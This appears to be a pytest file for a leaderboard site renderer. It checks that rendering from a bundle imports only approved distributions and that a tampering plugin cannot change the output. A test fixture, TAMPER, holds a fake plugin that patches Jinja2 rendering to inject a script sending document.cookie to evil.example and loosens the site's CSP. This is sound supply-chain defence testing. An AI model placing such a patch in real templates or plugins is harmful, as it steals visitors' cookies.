"""Render from a bundle in a process that imports no module of any other distribution (issue 37, item 1).

``python -m vlc_leaderboard.render_bundle`` is checked on ``sys.modules`` in a subprocess: every module it
imported is the standard library's, vlc-harness's own, or one of the distributions it renders with
(:data:`RENDERS_WITH`), beyond what a bare interpreter of this environment imports at startup. A plugin
installed as a distribution (a ``vlc_harness`` entry point on the path) that patches the templates and the
CSP when imported changes a site rendered the old way, in-process from the store, and nothing in a site
rendered from the bundle, which is byte for byte the clean one.
"""

from __future__ import annotations

import importlib.metadata
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.leaderboard.bundle_store import snapshot, store_args

pytestmark = pytest.mark.subprocess  # every test starts python: the renderer's process is what is checked

RENDERS_WITH = {"Jinja2", "MarkupSafe", "numpy", "click", "lazy-loader"}
"""vlc-harness's own dependencies the renderer imports: the templates (Jinja2 and its MarkupSafe), the
replicates' significance (numpy), its command line (click), and the core's lazy exports (lazy-loader)."""
OWN = "vlc-harness"
CYTHON = re.compile(r"cython_runtime|_cython_\d+(_\d+)*")
"""Modules a Cython-compiled extension creates when it loads: of no distribution and with no code of their own
(the extension that loads them is a module of its distribution, and is counted)."""
MAIN = ("__main__", "__mp_main__")
"""The script run, under its own name and under the alias ``import multiprocessing`` gives it (the render's
worker processes, :mod:`vlc_leaderboard.fanout`): no module of a distribution."""
EPOCH = "1767409200"
PROBE = """
import json, runpy, sys
out, argv = sys.argv[1], sys.argv[2:]
code = 0
if argv[:1] == ["--import"]:
    __import__(argv[1])
else:
    sys.argv = ["render_bundle", *argv]
    try:
        runpy.run_module("vlc_leaderboard.render_bundle", run_name="__main__")
    except SystemExit as exc:
        code = exc.code or 0
json.dump({"code": code, "modules": sorted(sys.modules)}, open(out, "w"))
"""
TAMPER = '''
"""A merged plugin that rewrites the published site when imported: the page template and the CSP."""
import importlib

import jinja2

EVIL_CSP = "default-src 'none'; script-src 'self' 'unsafe-inline' https://evil.example"
_render = jinja2.Template.render


def render(self, *args, **kwargs):
    html = _render(self, *args, **kwargs)
    return html.replace("</body>", "<script>fetch('https://evil.example/?c=' + document.cookie)</script></body>")


jinja2.Template.render = render
for name in ("vlc_leaderboard.site_policy", "vlc_leaderboard.templating"):
    try:
        importlib.import_module(name).CSP = EVIL_CSP
    except ImportError:
        pass
'''


def tamper_dist(folder: Path) -> Path:
    """A distribution ``evil-board-plugin`` on a path folder: its module and a ``vlc_harness`` entry point."""
    folder.mkdir(parents=True)
    (folder / "evil_board_plugin.py").write_text(TAMPER, encoding="utf-8")
    info = folder / "evil_board_plugin-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil-board-plugin\nVersion: 0.1\n", encoding="utf-8")
    (info / "entry_points.txt").write_text("[vlc_harness]\nevil = evil_board_plugin\n", encoding="utf-8")
    (info / "top_level.txt").write_text("evil_board_plugin\n", encoding="utf-8")
    return folder


def probe(tmp: Path, args: list[str], env: dict[str, str] | None = None) -> dict[str, Any]:
    """Run :data:`PROBE` (the renderer with ``args``, or ``--import NAME``); its exit code and ``sys.modules``."""
    out = tmp / f"modules-{len(list(tmp.glob('modules-*')))}.json"
    done = subprocess.run(
        [sys.executable, "-c", PROBE, str(out), *args], capture_output=True, text=True, env=env, timeout=300
    )
    assert done.returncode == 0 and out.is_file(), done.stderr
    return json.loads(out.read_text())


def foreign(modules: list[str], baseline: set[str], allowed: set[str]) -> dict[str, str]:
    """The modules not in ``baseline`` that are neither the standard library's nor of ``allowed`` distributions,
    each with its distribution (``"(none)"``: a module of no distribution, a plugins folder's)."""
    owners = importlib.metadata.packages_distributions()
    out = {}
    for name in modules:
        top = name.split(".")[0]
        if name in baseline or top in sys.stdlib_module_names or name in MAIN or CYTHON.fullmatch(name):
            continue
        dists = owners.get(top, [])
        if not dists:
            out[name] = "(none)"
        elif not set(dists) <= allowed | {OWN}:
            out[name] = ", ".join(sorted(set(dists)))
    return out


def bare_modules(tmp: Path) -> set[str]:
    """What this interpreter imports before any line of ours (``site`` and the path's ``.pth`` files)."""
    done = subprocess.run(
        [sys.executable, "-c", "import sys; print(' '.join(sys.modules))"], capture_output=True, text=True
    )
    return set(done.stdout.split())


def test_render_from_a_bundle_imports_only_the_harness_and_what_it_renders_with(board_bundle, tmp_path):
    found = probe(tmp_path, ["--bundle", str(board_bundle["bundle"]), "--out", str(tmp_path / "site")])
    assert found["code"] == 0 and (tmp_path / "site" / "index.html").is_file()
    assert foreign(found["modules"], bare_modules(tmp_path), RENDERS_WITH) == {}
    owners = importlib.metadata.packages_distributions()
    used = {d for m in found["modules"] for d in owners.get(m.split(".")[0], [])}
    assert RENDERS_WITH <= used  # the list is what it imports, not more
    assert not any(
        m.startswith(("vlc_harness_builtins", "vlc_harness.plugins", "vlc_harness.store")) for m in found["modules"]
    )


def test_the_deploy_check_imports_only_the_standard_library_and_the_board_s_own(tmp_path):
    """The deploy job runs it from the checkout with nothing installed (.github/workflows/nightly.yml)."""
    found = probe(tmp_path, ["--import", "vlc_leaderboard.verify_site"])["modules"]
    assert foreign(found, bare_modules(tmp_path), set()) == {}
    assert [m for m in found if m.startswith("vlc_") and m not in bare_modules(tmp_path)] == [
        "vlc_leaderboard",
        "vlc_leaderboard.manifest_rules",
        "vlc_leaderboard.site_policy",
        "vlc_leaderboard.verify_site",
    ]


def test_the_module_rule_names_a_planted_import(tmp_path):
    found = foreign(probe(tmp_path, ["--import", "yaml"])["modules"], bare_modules(tmp_path), RENDERS_WITH)
    assert "yaml" in found and set(found.values()) == {"PyYAML"}
    local = tmp_path / "local"
    local.mkdir()
    (local / "mine.py").write_text("x = 1\n")
    found = probe(tmp_path, ["--import", "mine"], os.environ | {"PYTHONPATH": str(local)})
    assert foreign(found["modules"], bare_modules(tmp_path), RENDERS_WITH) == {"mine": "(none)"}


def test_a_plugin_that_patches_the_templates_changes_nothing_rendered_from_the_bundle(board_bundle, tmp_path):
    evil = tamper_dist(tmp_path / "dists")
    clean = os.environ | {"SOURCE_DATE_EPOCH": EPOCH, "VLC_HARNESS_PLUGINS_DIR": str(board_bundle["plugins"])}
    tampered = clean | {"PYTHONPATH": os.pathsep.join([str(evil), os.environ.get("PYTHONPATH", "")])}
    old_way = [sys.executable, "-m", "vlc_harness", "render", *store_args(board_bundle)]
    for env, out in ((clean, "old-clean"), (tampered, "old-tampered")):
        done = subprocess.run([*old_way, "--out", str(tmp_path / out)], capture_output=True, text=True, env=env)
        assert done.returncode == 0, done.stderr
    bundle = ["--bundle", str(board_bundle["bundle"])]
    clean_run = probe(tmp_path, [*bundle, "--out", str(tmp_path / "new-clean")], clean)
    tampered_run = probe(tmp_path, [*bundle, "--out", str(tmp_path / "new-tampered")], tampered)
    assert clean_run["code"] == tampered_run["code"] == 0

    old, old_tampered = snapshot(tmp_path / "old-clean"), snapshot(tmp_path / "old-tampered")
    index = old_tampered["index.html"].decode()
    assert "<script>fetch('https://evil.example" in index and "&#39;unsafe-inline&#39; https://evil.example" in index
    assert [n for n in old if n.endswith(".html") and old[n] == old_tampered[n]] == []  # every page rewritten
    new = snapshot(tmp_path / "new-tampered")
    assert new == snapshot(tmp_path / "new-clean") and new == old  # the bundle's site is the clean one
    assert not any("evil" in m for m in tampered_run["modules"])  # the plugin was never imported
